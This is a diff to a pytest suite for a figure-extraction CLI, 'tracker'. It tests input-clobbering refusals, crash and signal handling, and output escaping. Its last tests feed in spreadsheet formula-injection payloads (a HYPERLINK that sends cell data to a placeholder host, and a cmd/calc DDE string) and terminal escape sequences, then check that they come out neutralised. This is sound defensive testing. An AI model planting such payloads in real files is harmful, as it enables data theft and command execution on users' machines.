@@ -12,11 +12,16 @@ import io
 import json
 import os
 import shutil
+import signal
+import stat
 import subprocess
 import sys
+import threading
+import time
 from pathlib import Path
 
 import pytest
+import regex as re
 
 from tracker import cli
 from tracker.extraction.engine import extract_document
@@ -194,11 +199,31 @@ def test_figures_written_into_the_folder_being_read_are_not_read_back(seeds, cap
     assert len(rows) == 9  # the seed figures, once
 
 
-def test_an_output_given_as_an_input_is_not_read(seeds, capsys, tmp_path):
+# -o or --report naming an input, or each other, would destroy what the user gave: refused
+# (exit 2) before anything is read, whatever the spelling (another path, a hard link, a link).
+CLASHES = [
+    (["old.csv", "seeds", "-o", "old.csv"], "-o old.csv is the input old.csv"),
+    (["feed.jsonl", "-o", "feed.jsonl"], "-o feed.jsonl is the input feed.jsonl"),
+    (["feed.jsonl", "-o", "./sub/../feed.jsonl"], "-o ./sub/../feed.jsonl is the input feed.jsonl"),
+    (["feed.jsonl", "-o", "hard.jsonl"], "-o hard.jsonl is the input feed.jsonl"),
+    (["link.jsonl", "-o", "feed.jsonl"], "-o feed.jsonl is the input link.jsonl"),
+    (["feed.jsonl", "-o", "x.json", "--report", "x.json"], "-o and --report are the same file (x.json)"),
+    (["feed.jsonl", "--report", "feed.jsonl"], "--report feed.jsonl is the input feed.jsonl"),
+]
+
+
+@pytest.mark.parametrize("argv, told", CLASHES)
+def test_an_output_that_would_destroy_an_input_is_refused_before_reading(seeds, capsys, tmp_path, argv, told):
     (tmp_path / "old.csv").write_text("text\nMore than 500 people were killed in Idlib.\n", encoding="utf-8")
-    code, _, err = run(["extract", "old.csv", seeds, "-o", "old.csv"], capsys)
-    assert code == cli.OK, err
-    assert "this run's own output (-o or --report): not read — old.csv" in err
+    (tmp_path / "feed.jsonl").write_text('{"text": "About 300 people were displaced."}\n', encoding="utf-8")
+    (tmp_path / "sub").mkdir()
+    os.link(tmp_path / "feed.jsonl", tmp_path / "hard.jsonl")
+    (tmp_path / "link.jsonl").symlink_to("feed.jsonl")
+    before = {p.name: p.read_bytes() for p in tmp_path.iterdir() if p.is_file()}
+    code, out, err = run(["extract", *argv], capsys)
+    assert (code, out) == (cli.USAGE, ""), (argv, err)
+    assert err.startswith(f"tracker: error: {told}") and err.count("\n") == 1, err
+    assert {p.name: p.read_bytes() for p in tmp_path.iterdir() if p.is_file()} == before, "every input untouched"
 
 
 def report_records(path: Path) -> list[dict]:
@@ -461,3 +486,148 @@ def test_a_household_size_that_is_no_size_is_a_usage_error(size):
         cwd=ROOT, capture_output=True, text=True,
     )
     assert run.returncode == 2 and "household-size" in run.stderr
+
+
+# --- issue 18: runs that used to end in a traceback, lose a file or run code -------------
+
+HUGE_INTEGER = "1" * 5_000
+
+
+def test_a_json_number_too_long_to_read_loses_only_its_line(tmp_path, capsys, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    Path("big.jsonl").write_text(
+        f'{{"text": "More than 500 civilians were killed.", "n": {HUGE_INTEGER}}}\n'
+        '{"text": "About 300 people were displaced."}\n'
+    )
+    code, out, err = run(["extract", "big.jsonl", "-o", "out.csv"], capsys)
+    assert code == cli.OK, err
+    assert "Traceback" not in err and "1 × malformed JSON on line 1: a number too long to read" in err, err
+    assert [r["document"] for r in csv.DictReader(open("out.csv", encoding="utf-8"))] == ["big.jsonl:2"]
+
+
+def test_a_loop_of_links_is_one_unreadable_entry_not_the_end_of_the_run(seeds, capsys, tmp_path):
+    (tmp_path / "seeds" / "a.txt").symlink_to("b.txt")
+    (tmp_path / "seeds" / "b.txt").symlink_to("a.txt")
+    code, _, err = run(["extract", seeds, "-o", "out.csv"], capsys)
+    assert code == cli.OK, err
+    assert "2 × cannot read: Too many levels of symbolic links — seeds/a.txt, seeds/b.txt" in err, err
+    assert len(list(csv.DictReader(open(tmp_path / "out.csv", encoding="utf-8")))) == 9
+
+
+def kill_worker_at(monkeypatch, doc_id: str) -> None:
+    """The worker process that extracts `doc_id` dies at once, as under `kill -9` or the
+    out-of-memory killer (the pool's workers are forked: they run this patched function)."""
+
+    def dies(doc, **kwargs):
+        if doc.id == doc_id:
+            os.kill(os.getpid(), signal.SIGKILL)
+        return extract_document(doc, **kwargs)
+
+    monkeypatch.setattr(jobs, "extract_document", dies)
+
+
+@pytest.mark.skipif(not hasattr(signal, "SIGKILL") or sys.platform == "darwin", reason="needs fork and SIGKILL")
+def test_a_worker_killed_under_jobs_is_one_error_line_naming_the_lost_documents(seeds, capsys, tmp_path, monkeypatch):
+    (tmp_path / "figures.csv").write_text("the figures of yesterday\n")
+    kill_worker_at(monkeypatch, sorted(f"seeds/{p.name}" for p in SEEDS.glob("*.txt"))[1])
+    code, out, err = run(["extract", seeds, "-j", "2", "-o", "figures.csv"], capsys)
+    assert (code, out) == (cli.FAILED, ""), err
+    assert "Traceback" not in err and "BrokenProcessPool" not in err, err
+    (error,) = [line for line in err.splitlines() if line.startswith("tracker: error:")]
+    assert "a worker process died" in error and "seeds/" in error, error
+    assert "failed" in err and "the worker process extracting it died" in err, "the summary names the lost documents"
+    assert (tmp_path / "figures.csv").read_text() == "the figures of yesterday\n", "the old output survives"
+    assert not [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")]
+
+
+def test_output_through_a_link_writes_its_target_and_keeps_the_link(seeds, capsys, tmp_path):
+    (tmp_path / "real.csv").write_text("old\n")
+    (tmp_path / "figures.csv").symlink_to("real.csv")
+    code, _, err = run(["extract", seeds, "-o", "figures.csv"], capsys)
+    assert code == cli.OK, err
+    assert (tmp_path / "figures.csv").is_symlink(), "the link stays a link"
+    assert (tmp_path / "real.csv").read_text(encoding="utf-8") == library_rows([seeds])
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are POSIX")
+def test_output_into_a_named_pipe_is_written_through_not_replaced(seeds, capsys, tmp_path):
+    # A pipe made here stands for every file that is no regular file (`-o /dev/null`,
+    # `/dev/stdout`): a test on the real /dev/null would, if this ever broke while the
+    # tests run as root, replace the machine's /dev/null with a file.
+    pipe = tmp_path / "figures.pipe"
+    os.mkfifo(pipe)
+    received = []
+    reader = threading.Thread(target=lambda: received.append(pipe.read_bytes()), daemon=True)
+    reader.start()
+    code, _, err = run(["extract", seeds, "-f", "csv", "-o", str(pipe)], capsys)
+    reader.join(timeout=60)
+    assert code == cli.OK, err
+    assert stat.S_ISFIFO(pipe.stat().st_mode), "the pipe is still a pipe"
+    assert received == [library_rows([seeds]).encode()]
+
+
+def test_temporary_files_of_a_killed_run_are_swept_by_the_next(seeds, capsys, tmp_path):
+    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
+    stale = tmp_path / f".figures.csv.{dead.stdout.strip()}.k2j4x9.part"
+    stale.write_text("half of a run that was killed\n")
+    unrelated = tmp_path / ".other.csv.1.abcd.part"
+    unrelated.write_text("another output's file\n")
+    code, _, err = run(["extract", seeds, "-o", "figures.csv"], capsys)
+    assert code == cli.OK, err
+    assert not stale.exists(), "the dead run's temporary file is gone"
+    assert unrelated.exists(), "only files of the same output name are swept"
+
+
+@pytest.mark.skipif(not hasattr(signal, "SIGTERM") or os.name == "nt", reason="POSIX signals")
+def test_sigterm_mid_run_leaves_no_temporary_file(tmp_path):
+    feed = tmp_path / "feed.jsonl"
+    row = '{"text": "More than 500 civilians have been killed in the offensive, the United Nations said."}\n'
+    feed.write_text(row * 40_000)
+    env = {**os.environ, "PYTHONPATH": str(ROOT)}
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "tracker", "extract", str(feed), "-o", str(tmp_path / "out.csv"), "--no-progress"],
+        cwd=tmp_path, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
+    )
+    deadline = time.monotonic() + 60
+    while not list(tmp_path.glob(".out.csv.*.part")) and time.monotonic() < deadline and proc.poll() is None:
+        time.sleep(0.05)
+    proc.send_signal(signal.SIGTERM)
+    _, err = proc.communicate(timeout=60)
+    assert proc.returncode == cli.TERMINATED, err
+    assert err.strip() == "tracker: terminated; no output file was left half-written", err
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["feed.jsonl"]
+
+
+def test_spreadsheet_formulas_in_inputs_do_not_reach_a_csv_cell_raw(tmp_path, capsys, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    Path("f.jsonl").write_text(
+        json.dumps({"id": '=HYPERLINK("http://x/"&A1)', "outlet": "+cmd|' /C calc'!A0", "title": "@SUM(1+1)",
+                    "text": "More than 500 civilians were killed."}) + "\n"
+    )
+    code, out, err = run(["extract", "f.jsonl", "--report", "run.csv"], capsys)
+    assert code == cli.OK, err
+    (row,) = csv.DictReader(io.StringIO(out))
+    assert (row["document"], row["outlet"], row["title"]) == ("'=HYPERLINK(\"http://x/\"&A1)", "'+cmd|' /C calc'!A0", "'@SUM(1+1)")
+    assert row["value"] == "500", "numbers stay numbers"
+    (entry,) = csv.DictReader(open("run.csv", encoding="utf-8"))
+    assert entry["source"] == "'=HYPERLINK(\"http://x/\"&A1)", "the report's CSV too"
+    code, out, _ = run(["extract", "f.jsonl", "-f", "jsonl"], capsys)
+    assert json.loads(out)["document"] == '=HYPERLINK("http://x/"&A1)', "JSON Lines stay exact"
+
+
+@pytest.mark.parametrize(
+    "name, row_id",
+    [
+        ("e.jsonl", "a\x1b]0;OWNED\x07\nSkipped: 9999"),
+        ("e.jsonl", "b\u202eslx.exe\r\n\x9b31m"),
+    ],
+)
+def test_control_characters_in_names_reach_the_terminal_escaped(tmp_path, capsys, monkeypatch, name, row_id):
+    monkeypatch.chdir(tmp_path)
+    Path(name).write_text(json.dumps({"id": row_id, "text": "About 300 people were displaced."}) + "\n")
+    Path("x\x1b[31mred\nfake.txt").write_text("  \n")
+    code, _, err = run(["extract", name, "x\x1b[31mred\nfake.txt"], capsys)
+    assert code == cli.OK, err
+    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", err), repr(err)
+    assert not [line for line in err.splitlines() if line.startswith(("Skipped: 9999", "fake.txt"))], err
+    assert "\\x1b" in err
